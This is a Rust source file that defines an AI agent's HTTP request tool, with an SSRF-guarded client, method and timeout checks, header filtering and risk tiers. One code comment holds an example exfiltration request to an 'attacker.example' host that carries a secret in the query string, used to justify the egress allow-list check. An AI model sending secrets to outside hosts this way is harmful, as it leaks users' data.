//! `http_request`: lets an agent fetch or call a URL through the SSRF-guarded client (SPEC §6.2).

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::sync::Arc;
use std::time::Duration;

use bytes::Bytes;
use cortex_core::approval::RiskTier;
use reqwest::Method;
use serde::Deserialize;
use serde_json::{Map, Value, json};

use super::parse_args;
use crate::http::{GuardedHttp, GuardedRequest, GuardedResponse};
use crate::{DataScope, Tool, ToolContext, ToolError, ToolOutput};

/// Longest time a model may ask for (SPEC §19), also the default.
pub const MAX_TIMEOUT_MS: u64 = 30_000;

const METHODS: &[&str] = &["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE"];

/// Response headers passed on to the model; the rest (cookies, server internals) are dropped.
const SHOWN_HEADERS: &[&str] =
    &["content-type", "content-length", "location", "date", "last-modified", "etag", "cache-control"];

/// The `http_request` tool.
pub struct HttpRequestTool {
    http: Arc<GuardedHttp>,
    schema: Value,
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Args {
    url: String,
    method: Option<String>,
    #[serde(default)]
    headers: BTreeMap<String, String>,
    body: Option<Value>,
    timeout_ms: Option<u64>,
}

impl HttpRequestTool {
    /// The tool sending through `http`.
    pub fn new(http: Arc<GuardedHttp>) -> Self {
        let schema = json!({
            "type": "object",
            "properties": {
                "url": {"type": "string", "description": "Absolute http:// or https:// URL."},
                "method": {"type": "string", "enum": METHODS, "description": "HTTP method (default GET)."},
                "headers": {"type": "object", "additionalProperties": {"type": "string"}, "description": "Request headers."},
                "body": {"type": ["string", "object", "array"], "description": "Request body; objects and arrays are sent as JSON."},
                "timeout_ms": {"type": "integer", "minimum": 1, "maximum": MAX_TIMEOUT_MS, "description": "Timeout in milliseconds (default and maximum 30000)."}
            },
            "required": ["url"],
            "additionalProperties": false
        });
        Self { http, schema }
    }
}

/// The method named by `name`; missing means GET.
fn parse_method(name: Option<&str>) -> Result<Method, ToolError> {
    let name = name.unwrap_or("GET").to_ascii_uppercase();
    if !METHODS.contains(&name.as_str()) {
        return Err(ToolError::InvalidArguments(format!("method must be one of {}", METHODS.join(", "))));
    }
    Method::from_bytes(name.as_bytes()).map_err(|_| ToolError::InvalidArguments(format!("invalid method {name}")))
}

/// Whether the call reads (GET/HEAD); anything unparseable counts as a write, the stricter reading.
fn is_read(input: &Value) -> bool {
    let method = match input.get("method") {
        None | Some(Value::Null) => parse_method(None),
        Some(Value::String(name)) => parse_method(Some(name)),
        Some(_) => return false,
    };
    matches!(method, Ok(method) if method == Method::GET || method == Method::HEAD)
}

fn build_request(args: Args) -> Result<GuardedRequest, ToolError> {
    let method = parse_method(args.method.as_deref())?;
    let url = url::Url::parse(&args.url).map_err(|error| ToolError::InvalidArguments(format!("url: {error}")))?;
    let timeout_ms = args.timeout_ms.unwrap_or(MAX_TIMEOUT_MS);
    if !(1..=MAX_TIMEOUT_MS).contains(&timeout_ms) {
        return Err(ToolError::InvalidArguments(format!("timeout_ms must be between 1 and {MAX_TIMEOUT_MS}")));
    }
    let mut headers: Vec<(String, String)> = args.headers.into_iter().collect();
    let body = match args.body {
        None | Some(Value::Null) => None,
        Some(Value::String(text)) => Some(Bytes::from(text)),
        Some(json_body) => {
            if !headers.iter().any(|(name, _)| name.eq_ignore_ascii_case("content-type")) {
                headers.push(("content-type".into(), "application/json".into()));
            }
            Some(Bytes::from(json_body.to_string()))
        }
    };
    let mut request = GuardedRequest::new(method, url);
    request.headers = headers;
    request.body = body;
    request.timeout = Duration::from_millis(timeout_ms);
    Ok(request)
}

/// Structured result and the text the model reads.
fn render(response: &GuardedResponse) -> ToolOutput {
    let mut headers = Map::new();
    let mut content = format!("HTTP {}\n", response.status);
    for name in SHOWN_HEADERS {
        if let Some(value) = response.headers.get(*name).and_then(|value| value.to_str().ok()) {
            headers.insert((*name).to_owned(), Value::from(value));
            let _ = writeln!(content, "{name}: {value}");
        }
    }
    let mut data = json!({
        "status": response.status.as_u16(),
        "url": response.url.as_str(),
        "headers": headers,
        "truncated": response.truncated,
    });
    match response.text() {
        Some(text) => {
            let _ = write!(content, "\n{text}");
            data["body"] = Value::from(text);
        }
        None => {
            let (size, content_type) = response.binary_summary();
            let _ = write!(content, "\n[binary body omitted: {size} bytes of {content_type}]");
            data["body"] = Value::Null;
            data["binary"] = json!({ "size": size, "content_type": content_type });
        }
    }
    if response.truncated {
        let _ = write!(content, "\n[body truncated at {} bytes]", response.body.len());
    }
    ToolOutput::ok(content, data)
}

#[async_trait::async_trait]
impl Tool for HttpRequestTool {
    fn tool_ref(&self) -> &str {
        "http_request"
    }

    fn description(&self) -> &str {
        "Sends an HTTP request to a public http(s) URL and returns the status, selected headers and the text body \
         (at most 1 MiB; binary bodies are summarised). Private, loopback and cloud-metadata destinations are refused."
    }

    fn input_schema(&self) -> &Value {
        &self.schema
    }

    fn default_risk(&self, input: &Value) -> RiskTier {
        if is_read(input) { RiskTier::P3 } else { RiskTier::P2 }
    }

    fn is_idempotent(&self, input: &Value) -> bool {
        is_read(input)
    }

    /// Any method can leak (`GET https://attacker.example/?q=<secret>`): only hosts on the policy's egress
    /// allow-list are vouched for.
    fn sends_data_out(&self, input: &Value, scope: &DataScope) -> bool {
        let url = input.get("url").and_then(Value::as_str).and_then(|url| url::Url::parse(url).ok());
        !url.is_some_and(|url| scope.vouches_for(&url))
    }

    async fn call(&self, input: Value, ctx: &ToolContext) -> Result<ToolOutput, ToolError> {
        let request = build_request(parse_args(input)?)?;
        let response = self.http.send_for_call(request, ctx).await?;
        Ok(render(&response))
    }
}
